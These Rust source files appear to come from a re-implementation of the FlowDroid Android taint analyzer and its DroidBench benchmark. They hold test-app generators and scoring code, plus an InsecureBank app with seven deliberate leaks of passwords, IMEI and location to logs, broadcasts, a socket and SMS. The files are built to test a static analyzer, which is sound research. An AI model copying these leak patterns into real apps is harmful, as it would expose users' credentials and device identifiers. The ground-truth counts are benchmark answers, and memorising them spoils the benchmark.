fn gen_lifecycle(seed: u64, index: usize, rng: &mut StdRng) -> TruthApp {
    let pkg = format!("gt.lc{index}");
    let chain = rng.gen_range(0..=1usize);
    let (help, hlocals, hcalls, tainted) = helper_chain(&pkg, chain, "id");
    let reader = ["onStop", "onPause", "onDestroy"][rng.gen_range(0..3usize)];

    let mut code = format!(
        "class {pkg}.Main extends android.app.Activity {{\n  static field im: java.lang.String\n  static field note: java.lang.String\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    );
    code.push_str(IMEI_LOCALS);
    code.push_str(&hlocals);
    code.push_str(GET_IMEI);
    code.push_str(&hcalls);
    writeln!(code, "    static {pkg}.Main.im = {tainted}").unwrap();
    writeln!(code, "    static {pkg}.Main.note = \"boot\"").unwrap();
    code.push_str("    return\n  }\n");
    writeln!(code, "  method {reader}() -> void {{").unwrap();
    code.push_str("    let t: java.lang.String\n    let u: java.lang.String\n");
    writeln!(code, "    u = static {pkg}.Main.note").unwrap();
    code.push_str(&log_sink(rng, "OK", "u"));
    writeln!(code, "    t = static {pkg}.Main.im").unwrap();
    code.push_str(&log_sink(rng, "T", "t"));
    code.push_str("    return\n  }\n}\n");
    code.push_str(&help);

    TruthApp {
        name: app_name("lifecycle", seed, index),
        category: "lifecycle",
        constructive: true,
        expected_flows: 1,
        expected_absent: 0,
        expected_reported: 1,
        expected_linked: None,
        manifest: single_activity_manifest(&pkg),
        layouts: vec![],
        code,
    }
}

/// `widening`: the taint sits at the end of a linked chain of `depth`
/// nodes, `depth` chosen above the default access-path bound (k = 5),
/// so the path `n0.next^depth.secret` the alias pass derives is cut to
/// its k-prefix, which *covers every suffix*. The real flow (the chain
/// read of `secret`) survives truncation; the clean sibling `note`,
/// read through the same chain, is covered by the truncated prefix too
/// and is reported as a false positive — the paper's documented
/// k-limiting over-approximation, which is exactly what makes this a
/// non-constructive category. The differential runner's k-limit probe
/// re-runs these apps with the bound raised above `depth` and checks
/// the false positive disappears.
fn gen_widening(seed: u64, index: usize, rng: &mut StdRng) -> TruthApp {
    let pkg = format!("gt.wd{index}");
    let depth = rng.gen_range(6..=9usize);

    let mut code = format!(
        "class {pkg}.Node extends java.lang.Object {{\n  field next: {pkg}.Node\n  field secret: java.lang.String\n  field note: java.lang.String\n  method <init>() -> void {{\n    return\n  }}\n}}\n"
    );
    write!(
        code,
        "class {pkg}.Main extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    )
    .unwrap();
    code.push_str(IMEI_LOCALS);
    for i in 0..=depth {
        writeln!(code, "    let n{i}: {pkg}.Node").unwrap();
    }
    for i in 1..=depth {
        writeln!(code, "    let t{i}: {pkg}.Node").unwrap();
    }
    code.push_str("    let s: java.lang.String\n    let c: java.lang.String\n");
    code.push_str(GET_IMEI);
    for i in 0..=depth {
        writeln!(code, "    n{i} = new {pkg}.Node").unwrap();
        writeln!(code, "    specialinvoke n{i}.<{pkg}.Node: void <init>()>()").unwrap();
    }
    for i in 0..depth {
        writeln!(code, "    n{i}.next = n{}", i + 1).unwrap();
    }
    writeln!(code, "    n{depth}.secret = id").unwrap();
    writeln!(code, "    n{depth}.note = \"benign\"").unwrap();
    // Read the secret back through the full chain from the root.
    writeln!(code, "    t1 = n0.next").unwrap();
    for i in 2..=depth {
        writeln!(code, "    t{i} = t{}.next", i - 1).unwrap();
    }
    writeln!(code, "    s = t{depth}.secret").unwrap();
    code.push_str(&log_sink(rng, "T", "s"));
    // The clean sibling, read through the same deeper-than-k chain:
    // covered by the truncated prefix, reported at the default bound.
    writeln!(code, "    c = t{depth}.note").unwrap();
    code.push_str(&log_sink(rng, "C", "c"));
    code.push_str("    return\n  }\n}\n");

    TruthApp {
        name: app_name("widening", seed, index),
        category: "widening",
        constructive: false,
        expected_flows: 1,
        expected_absent: 1,
        expected_reported: 2,
        expected_linked: None,
        manifest: single_activity_manifest(&pkg),
        layouts: vec![],
        code,
    }
}

/// `sanitizer`: one real leak, plus a path where the tainted local is
/// overwritten with a constant before the sink — the strong update must
/// kill the taint (the expected-absent flow).
fn gen_sanitizer(seed: u64, index: usize, rng: &mut StdRng) -> TruthApp {
    let pkg = format!("gt.sn{index}");
    let chain = rng.gen_range(0..=2usize);
    let (help, hlocals, hcalls, tainted) = helper_chain(&pkg, chain, "id");

    let mut code = format!(
        "class {pkg}.Main extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    );
    code.push_str(IMEI_LOCALS);
    code.push_str(&hlocals);
    code.push_str("    let v: java.lang.String\n    let w: java.lang.String\n");
    code.push_str(GET_IMEI);
    code.push_str(&hcalls);
    writeln!(code, "    w = {tainted}").unwrap();
    code.push_str(&log_sink(rng, "T", "w"));
    // The kill-path: taint, sanitize by reassignment, then sink.
    code.push_str("    v = id\n");
    code.push_str("    v = \"clean\"\n");
    code.push_str(&log_sink(rng, "S", "v"));
    code.push_str("    return\n  }\n}\n");
    code.push_str(&help);

    TruthApp {
        name: app_name("sanitizer", seed, index),
        category: "sanitizer",
        constructive: true,
        expected_flows: 1,
        expected_absent: 1,
        expected_reported: 1,
        expected_linked: None,
        manifest: single_activity_manifest(&pkg),
        layouts: vec![],
        code,
    }
}

/// `dispatch`: virtual dispatch over an opaque condition selects a
/// tainted or a clean provider subclass — the tainted variant is
/// reachable, one real flow.
fn gen_dispatch(seed: u64, index: usize, rng: &mut StdRng) -> TruthApp {
    let pkg = format!("gt.dp{index}");
    let chain = rng.gen_range(0..=1usize);
    let (help, hlocals, hcalls, tainted) = helper_chain(&pkg, chain, "s");

    let mut code = format!(
        "class {pkg}.General extends java.lang.Object {{\n  method <init>() -> void {{\n    return\n  }}\n  method obtain(t: android.telephony.TelephonyManager) -> java.lang.String {{\n    return \"none\"\n  }}\n}}\nclass {pkg}.VarA extends {pkg}.General {{\n  method <init>() -> void {{\n    return\n  }}\n  method obtain(t: android.telephony.TelephonyManager) -> java.lang.String {{\n    let s: java.lang.String\n    s = virtualinvoke t.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()\n    return s\n  }}\n}}\nclass {pkg}.VarB extends {pkg}.General {{\n  method <init>() -> void {{\n    return\n  }}\n  method obtain(t: android.telephony.TelephonyManager) -> java.lang.String {{\n    return \"constant\"\n  }}\n}}\n"
    );
    write!(
        code,
        "class {pkg}.Main extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    )
    .unwrap();
    code.push_str("    let o: java.lang.Object\n    let tm: android.telephony.TelephonyManager\n");
    writeln!(code, "    let g: {pkg}.General").unwrap();
    code.push_str("    let s: java.lang.String\n");
    code.push_str(&hlocals);
    code.push_str("    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>(\"phone\")\n    tm = (android.telephony.TelephonyManager) o\n");
    code.push_str("    if opaque goto useB\n");
    writeln!(code, "    g = new {pkg}.VarA").unwrap();
    writeln!(code, "    specialinvoke g.<{pkg}.VarA: void <init>()>()").unwrap();
    code.push_str("    goto done\n  label useB:\n");
    writeln!(code, "    g = new {pkg}.VarB").unwrap();
    writeln!(code, "    specialinvoke g.<{pkg}.VarB: void <init>()>()").unwrap();
    code.push_str("  label done:\n");
    writeln!(
        code,
        "    s = virtualinvoke g.<{pkg}.General: java.lang.String obtain(android.telephony.TelephonyManager)>(tm)"
    )
    .unwrap();
    code.push_str(&hcalls);
    code.push_str(&log_sink(rng, "T", &tainted));
    code.push_str("    return\n  }\n}\n");
    code.push_str(&help);

    TruthApp {
        name: app_name("dispatch", seed, index),
        category: "dispatch",
        constructive: true,
        expected_flows: 1,
        expected_absent: 0,
        expected_reported: 1,
        expected_linked: None,
        manifest: single_activity_manifest(&pkg),
        layouts: vec![],
        code,
    }
}

/// `reflection`: the leaking method is reached only through an
/// unresolvable reflective dispatch — a real flow the paper documents
/// as missed (`expected_reported` = 0).
fn gen_reflection(seed: u64, index: usize) -> TruthApp {
    let pkg = format!("gt.rf{index}");
    let mut code = format!(
        "class {pkg}.Main extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    );
    code.push_str(IMEI_LOCALS);
    code.push_str("    let m: java.lang.reflect.Method\n");
    code.push_str(GET_IMEI);
    writeln!(
        code,
        "    m = staticinvoke <{pkg}.Main: java.lang.reflect.Method lookup(java.lang.String)>(\"leak\")"
    )
    .unwrap();
    code.push_str("    virtualinvoke m.<java.lang.reflect.Method: java.lang.Object invoke(java.lang.Object,java.lang.String)>(this, id)\n");
    code.push_str("    return\n  }\n");
    code.push_str("  native static method lookup(name: java.lang.String) -> java.lang.reflect.Method\n");
    code.push_str("  method leak(s: java.lang.String) -> void {\n    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>(\"T\", s)\n    return\n  }\n}\n");

    TruthApp {
        name: app_name("reflection", seed, index),
        category: "reflection",
        constructive: false,
        expected_flows: 1,
        expected_absent: 0,
        expected_reported: 0,
        expected_linked: None,
        manifest: single_activity_manifest(&pkg),
        layouts: vec![],
        code,
    }
}

/// `icc`: a Sender activity and a Receiver activity. The positive pair
/// sends the IMEI in an intent extra the Receiver logs — two real flows
/// (the tainted send, and the cross-component reception→log). The
/// negative pair sends only a constant: zero real flows, but the
/// paper's unlinked model (reception unconditionally a source) still
/// reports the reception→log pair — the documented false positive the
/// linked two-phase mode (`expected_linked`) removes.
fn gen_icc(seed: u64, index: usize, positive: bool) -> TruthApp {
    let role = if positive { "pos" } else { "neg" };
    let pkg = format!("gt.ic{index}{role}");
    let manifest = format!(
        r#"<manifest package="{pkg}">
  <application>
    <activity android:name=".Sender">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
    <activity android:name=".Receiver"/>
  </application>
</manifest>"#
    );

    let mut code = format!(
        "class {pkg}.Sender extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    );
    if positive {
        code.push_str(IMEI_LOCALS);
    }
    code.push_str("    let i: android.content.Intent\n");
    if positive {
        code.push_str(GET_IMEI);
    }
    code.push_str("    i = new android.content.Intent\n    specialinvoke i.<android.content.Intent: void <init>()>()\n");
    if positive {
        code.push_str("    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>(\"secret\", id)\n");
    } else {
        code.push_str("    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>(\"greeting\", \"hello\")\n");
    }
    code.push_str("    virtualinvoke this.<android.content.Context: void startActivity(android.content.Intent)>(i)\n");
    code.push_str("    return\n  }\n}\n");
    write!(
        code,
        "class {pkg}.Receiver extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n    let i: android.content.Intent\n    let s: java.lang.String\n    i = virtualinvoke this.<android.app.Activity: android.content.Intent getIntent()>()\n    s = virtualinvoke i.<android.content.Intent: java.lang.String getStringExtra(java.lang.String)>(\"secret\")\n    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>(\"T\", s)\n    return\n  }}\n}}\n"
    )
    .unwrap();

    let (expected_flows, expected_reported, expected_linked) =
        if positive { (2, 2, Some(2)) } else { (0, 1, Some(0)) };
    TruthApp {
        name: format!("{}-{role}", app_name("icc", seed, index)),
        category: "icc",
        constructive: positive,
        expected_flows,
        expected_absent: if positive { 0 } else { 1 },
        expected_reported,
        expected_linked,
        manifest,
        layouts: vec![],
        code,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_android::install_platform;
    use flowdroid_frontend::App;
    use flowdroid_ir::Program;

    #[test]
    fn generation_is_deterministic() {
        let a = generate_corpus(7, 2);
        let b = generate_corpus(7, 2);
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.name, y.name);
            assert_eq!(x.code, y.code);
            assert_eq!(x.manifest, y.manifest);
        }
        let c = generate_corpus(8, 2);
        assert!(a.iter().zip(&c).any(|(x, y)| x.name != y.name || x.code != y.code));
    }

    #[test]
    fn names_are_unique() {
        let apps = generate_corpus(3, 3);
        let mut names: Vec<&str> = apps.iter().map(|a| a.name.as_str()).collect();
        let before = names.len();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), before);
        // 8 single-app categories + the icc pair.
        assert_eq!(before, 3 * (CATEGORIES.len() + 1));
    }

    #[test]
    fn every_app_parses() {
        for app in generate_corpus(11, 2) {
            let mut p = Program::new();
            install_platform(&mut p);
            let layouts: Vec<(&str, &str)> =
                app.layouts.iter().map(|(n, x)| (n.as_str(), x.as_str())).collect();
            App::from_parts(&mut p, &app.manifest, &layouts, &app.code)
                .unwrap_or_else(|e| panic!("{} fails to parse: {e}", app.name));
        }
    }

    #[test]
    fn rpk_round_trips_with_truth_manifest() {
        let app = &generate_corpus(5, 1)[0];
        let bytes = app.rpk_bytes();
        let archive = flowdroid_frontend::Archive::from_bytes(&bytes).unwrap();
        assert_eq!(archive.get_str("truth.json").unwrap(), app.truth_json());
        let mut p = Program::new();
        install_platform(&mut p);
        let loaded = App::from_archive(&mut p, &archive).unwrap();
        assert!(!loaded.classes.is_empty());
    }
}
