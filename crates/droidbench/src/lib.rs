#![warn(missing_docs)]

//! DroidBench 1.0, re-authored: the micro-benchmark suite the paper
//! proposes and evaluates on (Table 1), plus the InsecureBank app used
//! for RQ2.
//!
//! Every app is a complete Android-like package — manifest, layout XML
//! where relevant, and `jasm` code — together with its ground truth
//! (the number of *real* leaks). The 35 apps of the paper's Table 1 are
//! tagged [`BenchApp::in_table`]; four supplementary apps (documented
//! limitations: implicit flows, reflection) complete the suite to the
//! advertised 39, and six extended apps exercise chained callback
//! registration, bound services, content providers and multi-hop
//! exfiltration.
//!
//! The expected outcome of the reproduced FlowDroid on this suite
//! matches the paper exactly: 26 true positives, 4 false positives
//! (ArrayAccess1/2, ListAccess1, Button2 — conservative array indices
//! and missing strong updates), 2 misses (IntentSink1,
//! StaticInitialization1) → 86% precision / 93% recall.

mod apps;
pub mod insecurebank;

pub use apps::all_apps;

use flowdroid_frontend::{App, AppError};
use flowdroid_ir::Program;

/// The Table-1 categories.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Category {
    /// Arrays and Lists.
    ArraysAndLists,
    /// Callbacks.
    Callbacks,
    /// Field and Object Sensitivity.
    FieldObjectSensitivity,
    /// Inter-App Communication.
    InterAppCommunication,
    /// Lifecycle.
    Lifecycle,
    /// General Java.
    GeneralJava,
    /// Miscellaneous Android-Specific.
    AndroidSpecific,
    /// Supplementary apps beyond Table 1.
    Supplementary,
}

impl Category {
    /// Display name matching the paper's table sections.
    pub fn title(self) -> &'static str {
        match self {
            Category::ArraysAndLists => "Arrays and Lists",
            Category::Callbacks => "Callbacks",
            Category::FieldObjectSensitivity => "Field and Object Sensitivity",
            Category::InterAppCommunication => "Inter-App Communication",
            Category::Lifecycle => "Lifecycle",
            Category::GeneralJava => "General Java",
            Category::AndroidSpecific => "Miscellaneous Android-Specific",
            Category::Supplementary => "Supplementary",
        }
    }
}

/// One benchmark app with its ground truth.
#[derive(Clone, Debug)]
pub struct BenchApp {
    /// App name as in Table 1.
    pub name: &'static str,
    /// Table category.
    pub category: Category,
    /// Whether the app appears in the paper's Table 1.
    pub in_table: bool,
    /// Number of *real* leaks in the app.
    pub expected_leaks: usize,
    /// What the app exercises.
    pub description: &'static str,
    /// `AndroidManifest.xml`.
    pub manifest: String,
    /// Layout resources (name, xml).
    pub layouts: Vec<(&'static str, &'static str)>,
    /// `jasm` code.
    pub code: String,
}

impl BenchApp {
    /// Loads this app into `program` (which should already hold the
    /// platform stubs).
    ///
    /// # Errors
    ///
    /// Returns [`AppError`] if any artifact fails to parse — which
    /// would be a bug in the suite itself.
    pub fn load(&self, program: &mut Program) -> Result<App, AppError> {
        let layouts: Vec<(&str, &str)> = self.layouts.clone();
        App::from_parts(program, &self.manifest, &layouts, &self.code)
    }

    /// Writes the app as an on-disk app directory
    /// (`AndroidManifest.xml`, `res/layout/*.xml`, `classes.jasm`) that
    /// the `flowdroid` CLI can analyze directly.
    ///
    /// # Errors
    ///
    /// Returns any filesystem error encountered.
    pub fn write_to_dir(&self, dir: &std::path::Path) -> std::io::Result<()> {
        std::fs::create_dir_all(dir)?;
        std::fs::write(dir.join("AndroidManifest.xml"), &self.manifest)?;
        if !self.layouts.is_empty() {
            let ldir = dir.join("res/layout");
            std::fs::create_dir_all(&ldir)?;
            for (name, xml) in &self.layouts {
                std::fs::write(ldir.join(format!("{name}.xml")), xml)?;
            }
        }
        std::fs::write(dir.join("classes.jasm"), &self.code)?;
        Ok(())
    }
}

/// Score of one tool on one app, measured in leaks.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct AppScore {
    /// Correct warnings (★).
    pub tp: usize,
    /// False warnings (☆).
    pub fp: usize,
    /// Missed leaks.
    pub fn_: usize,
}

impl AppScore {
    /// Scores `found` reported leaks against `expected` real leaks
    /// (count-based: the suite's apps are constructed so that counts
    /// identify flows unambiguously).
    pub fn from_counts(expected: usize, found: usize) -> AppScore {
        let tp = expected.min(found);
        AppScore { tp, fp: found - tp, fn_: expected - tp }
    }

    /// Accumulates another score.
    pub fn add(&mut self, other: AppScore) {
        self.tp += other.tp;
        self.fp += other.fp;
        self.fn_ += other.fn_;
    }

    /// Precision ★/(★+☆); 1.0 when nothing was reported.
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fp) as f64
        }
    }

    /// Recall ★/(★+missed); 1.0 when nothing was expected.
    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fn_) as f64
        }
    }

    /// F-measure 2pr/(p+r).
    pub fn f_measure(&self) -> f64 {
        let (p, r) = (self.precision(), self.recall());
        if p + r == 0.0 {
            0.0
        } else {
            2.0 * p * r / (p + r)
        }
    }
}

/// Per-category precision/recall aggregation: one [`AppScore`] per
/// category name, plus the overall total. The single scoring schema
/// shared by the DroidBench evaluation (`examples/droidbench_eval.rs`,
/// `flowdroid droidbench`) and the ground-truth harness
/// (`flowdroid-truth`), so precision/recall math lives in exactly one
/// place.
#[derive(Clone, Debug, Default)]
pub struct ScoreBoard {
    by_category: std::collections::BTreeMap<String, AppScore>,
}

impl ScoreBoard {
    /// An empty board.
    pub fn new() -> ScoreBoard {
        ScoreBoard::default()
    }

    /// Adds one app's score under `category` (created on first use).
    pub fn record(&mut self, category: &str, score: AppScore) {
        self.by_category.entry(category.to_string()).or_default().add(score);
    }

    /// `(category, score)` rows in sorted category order.
    pub fn rows(&self) -> impl Iterator<Item = (&str, &AppScore)> {
        self.by_category.iter().map(|(k, v)| (k.as_str(), v))
    }

    /// The sum over all categories.
    pub fn total(&self) -> AppScore {
        let mut t = AppScore::default();
        for s in self.by_category.values() {
            t.add(*s);
        }
        t
    }

    /// Renders the per-category table plus a total row, one line per
    /// category: `name  tp/fp/fn  precision recall`.
    pub fn render(&self) -> String {
        use std::fmt::Write;
        let width = self.by_category.keys().map(|k| k.len()).max().unwrap_or(5).max(5);
        let mut out = String::new();
        let mut line = |name: &str, s: &AppScore| {
            writeln!(
                out,
                "{name:width$}  tp {:3}  fp {:3}  fn {:3}  precision {:.3}  recall {:.3}",
                s.tp,
                s.fp,
                s.fn_,
                s.precision(),
                s.recall()
            )
            .unwrap();
        };
        for (name, s) in &self.by_category {
            line(name, s);
        }
        line("TOTAL", &self.total());
        out
    }
}

/// Standard single-activity manifest used by most apps.
pub(crate) fn single_activity_manifest(pkg: &str, activity: &str) -> String {
    format!(
        r#"<manifest package="{pkg}">
  <application>
    <activity android:name=".{activity}">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn suite_counts() {
        let apps = all_apps();
        // 35 Table-1 apps + 4 suite-completing supplementary apps (the
        // advertised 39) + 6 extended apps.
        assert_eq!(apps.len(), 45);
        assert_eq!(apps.iter().filter(|a| a.in_table).count(), 35);
    }

    #[test]
    fn expected_leak_total_matches_table1() {
        // Table 1 sums: 26 found + 2 missed = 28 real leaks.
        let total: usize =
            all_apps().iter().filter(|a| a.in_table).map(|a| a.expected_leaks).sum();
        assert_eq!(total, 28);
    }

    #[test]
    fn all_apps_parse() {
        for app in all_apps() {
            let mut p = Program::new();
            flowdroid_android::install_platform(&mut p);
            app.load(&mut p)
                .unwrap_or_else(|e| panic!("app {} fails to load: {e}", app.name));
        }
    }

    #[test]
    fn names_are_unique() {
        let apps = all_apps();
        let mut names: Vec<_> = apps.iter().map(|a| a.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), apps.len());
    }

    #[test]
    fn write_to_dir_round_trips() {
        let apps = all_apps();
        let app = apps.iter().find(|a| a.name == "Button1").unwrap();
        let dir = std::env::temp_dir()
            .join(format!("droidbench-export-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        app.write_to_dir(&dir).unwrap();
        let mut p = Program::new();
        flowdroid_android::install_platform(&mut p);
        let loaded = App::from_dir(&mut p, &dir).unwrap();
        assert_eq!(loaded.manifest.package, "dbench.btn1");
        assert_eq!(loaded.layouts.len(), 1);
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn score_arithmetic() {
        let s = AppScore::from_counts(2, 3);
        assert_eq!(s, AppScore { tp: 2, fp: 1, fn_: 0 });
        let s = AppScore::from_counts(1, 0);
        assert_eq!(s, AppScore { tp: 0, fp: 0, fn_: 1 });
        let mut total = AppScore::default();
        total.add(AppScore { tp: 26, fp: 4, fn_: 2 });
        assert!((total.precision() - 0.8667).abs() < 0.001);
        assert!((total.recall() - 0.9286).abs() < 0.001);
        assert!(total.f_measure() > 0.89 && total.f_measure() < 0.90);
    }
}
