//! InsecureBank (RQ2): a deliberately vulnerable banking app with
//! exactly seven ground-truth data leaks, modeled after the Paladion
//! app the paper analyzes ("FlowDroid finds all seven data leaks …
//! no false positives nor false negatives").
//!
//! The seven leaks:
//! 1. the password field → device log (login debugging),
//! 2. the password field → shared preferences ("remember me"),
//! 3. the password is broadcast inside an intent,
//! 4. the IMEI → log (analytics),
//! 5. the IMEI → raw socket (registration with the backend),
//! 6. the last known location → log,
//! 7. the account balance (server secret via broadcast intent) → SMS.

use crate::BenchApp;
use crate::Category;

/// The InsecureBank app bundle.
pub fn insecure_bank() -> BenchApp {
    let manifest = r#"<manifest package="com.insecurebank">
  <application>
    <activity android:name=".LoginActivity">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
    <activity android:name=".TransferActivity"/>
    <receiver android:name=".BalanceReceiver" android:exported="true"/>
  </application>
</manifest>"#
        .to_owned();

    let login_layout = r#"<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
  <EditText android:id="@+id/username"/>
  <EditText android:id="@+id/password" android:inputType="textPassword"/>
  <Button android:id="@+id/login" android:onClick="doLogin"/>
</LinearLayout>"#;

    let transfer_layout = r#"<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
  <EditText android:id="@+id/amount"/>
  <Button android:id="@+id/send" android:onClick="doTransfer"/>
</LinearLayout>"#;

    let code = r#"
class com.insecurebank.LoginActivity extends android.app.Activity {
  field user: java.lang.String
  field pass: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/login)
    return
  }
  method doLogin(v: android.view.View) -> void {
    let uv: android.view.View
    let pv: android.view.View
    let u: java.lang.String
    let p: java.lang.String
    let prefs: android.content.SharedPreferences
    let ed: android.content.SharedPreferences$Editor
    let i: android.content.Intent
    uv = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/username)
    pv = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/password)
    u = virtualinvoke uv.<android.widget.TextView: java.lang.String getText()>()
    p = virtualinvoke pv.<android.widget.TextView: java.lang.String getText()>()
    this.user = u
    this.pass = p
    // Leak 1: password to the device log.
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("login", p)
    // Leak 2: password persisted in shared preferences.
    prefs = virtualinvoke this.<android.content.Context: android.content.SharedPreferences getSharedPreferences(java.lang.String,int)>("creds", 0)
    ed = virtualinvoke prefs.<android.content.SharedPreferences: android.content.SharedPreferences$Editor edit()>()
    virtualinvoke ed.<android.content.SharedPreferences$Editor: android.content.SharedPreferences$Editor putString(java.lang.String,java.lang.String)>("pwd", p)
    virtualinvoke ed.<android.content.SharedPreferences$Editor: boolean commit()>()
    return
  }
  method onPause() -> void {
    let p: java.lang.String
    let i: android.content.Intent
    p = this.pass
    // Leak 3: password broadcast to every app.
    i = new android.content.Intent
    specialinvoke i.<android.content.Intent: void <init>()>()
    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>("user", p)
    virtualinvoke this.<android.content.Context: void sendBroadcast(android.content.Intent)>(i)
    return
  }
}
class com.insecurebank.TransferActivity extends android.app.Activity {
  field imei: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/transfer)
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    this.imei = id
    // Leak 4: IMEI to the log ("analytics").
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("analytics", id)
    return
  }
  method doTransfer(v: android.view.View) -> void {
    let id: java.lang.String
    let sock: java.net.Socket
    let os: java.io.OutputStream
    id = this.imei
    // Leak 5: IMEI to a raw backend socket.
    sock = new java.net.Socket
    specialinvoke sock.<java.net.Socket: void <init>(java.lang.String,int)>("bank.example.com", 8080)
    os = virtualinvoke sock.<java.net.Socket: java.io.OutputStream getOutputStream()>()
    virtualinvoke os.<java.io.OutputStream: void write(java.lang.String)>(id)
    return
  }
  method onResume() -> void {
    let o: java.lang.Object
    let lm: android.location.LocationManager
    let loc: android.location.Location
    let s: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("location")
    lm = (android.location.LocationManager) o
    loc = virtualinvoke lm.<android.location.LocationManager: android.location.Location getLastKnownLocation(java.lang.String)>("gps")
    s = virtualinvoke loc.<java.lang.Object: java.lang.String toString()>()
    // Leak 6: branch location to the log.
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("branch", s)
    return
  }
}
class com.insecurebank.BalanceReceiver extends android.content.BroadcastReceiver {
  method onReceive(c: android.content.Context, i: android.content.Intent) -> void {
    let bal: java.lang.String
    let sms: android.telephony.SmsManager
    bal = virtualinvoke i.<android.content.Intent: java.lang.String getStringExtra(java.lang.String)>("balance")
    // Leak 7: received balance forwarded via SMS.
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("+1555", null, bal, null, null)
    return
  }
}
"#
    .to_owned();

    BenchApp {
        name: "InsecureBank",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 7,
        description: "vulnerable banking app with exactly seven ground-truth leaks (RQ2)",
        manifest,
        layouts: vec![("login", login_layout), ("transfer", transfer_layout)],
        code,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::Program;

    #[test]
    fn insecure_bank_loads() {
        let mut p = Program::new();
        flowdroid_android::install_platform(&mut p);
        let app = insecure_bank();
        let loaded = app.load(&mut p).unwrap();
        assert_eq!(loaded.manifest.components.len(), 3);
        assert_eq!(loaded.layouts.len(), 2);
    }
}
