//! Miscellaneous Android-specific apps: password fields, direct leaks,
//! disabled components and benign logging.

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![
        private_data_leak1(),
        private_data_leak2(),
        direct_leak1(),
        inactive_activity(),
        log_no_leak(),
    ]
}

const PWD_LAYOUT: &str = r#"<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
  <EditText android:id="@+id/username"/>
  <EditText android:id="@+id/pwdString" android:inputType="textPassword"/>
  <Button android:id="@+id/button1" android:onClick="sendIt"/>
</LinearLayout>"#;

/// The paper's Listing 1 shape: a password field read in the lifecycle
/// is sent via SMS from an XML button handler.
fn private_data_leak1() -> BenchApp {
    let code = r#"
class dbench.pdl1.Main extends android.app.Activity {
  field pwd: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method onRestart() -> void {
    let v: android.view.View
    let p: java.lang.String
    v = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/pwdString)
    p = virtualinvoke v.<java.lang.Object: java.lang.String toString()>()
    this.pwd = p
    return
  }
  method sendIt(v: android.view.View) -> void {
    let p: java.lang.String
    let sms: android.telephony.SmsManager
    p = this.pwd
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("+44 020 7321 0905", null, p, null, null)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "PrivateDataLeak1",
        category: Category::AndroidSpecific,
        in_table: true,
        expected_leaks: 1,
        description: "password field read in onRestart, sent via SMS from a button handler",
        manifest: single_activity_manifest("dbench.pdl1", "Main"),
        layouts: vec![("main", PWD_LAYOUT)],
        code,
    }
}

